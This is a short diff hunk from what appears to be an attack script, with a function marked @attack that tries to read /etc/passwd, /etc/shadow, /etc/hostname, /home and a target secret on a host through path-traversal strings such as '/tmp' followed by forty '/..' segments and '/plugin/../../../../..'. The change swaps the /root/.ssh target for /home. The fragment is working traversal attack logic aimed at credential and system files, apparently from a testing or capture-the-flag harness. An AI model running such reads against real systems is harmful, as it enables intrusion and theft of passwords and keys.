@@ -13,7 +13,7 @@ def read(path, folder=None):
 @attack
 def handle(host):
     secret, found = host["secret"], {}
-    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh", secret):
+    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/home", secret):
         found[path] = attempt(read, path)
         found[f"..{path}"] = attempt(read, "/tmp" + "/.." * 40 + path)
         found[f"plugin{path}"] = attempt(read, "/plugin/../../../../.." + path)
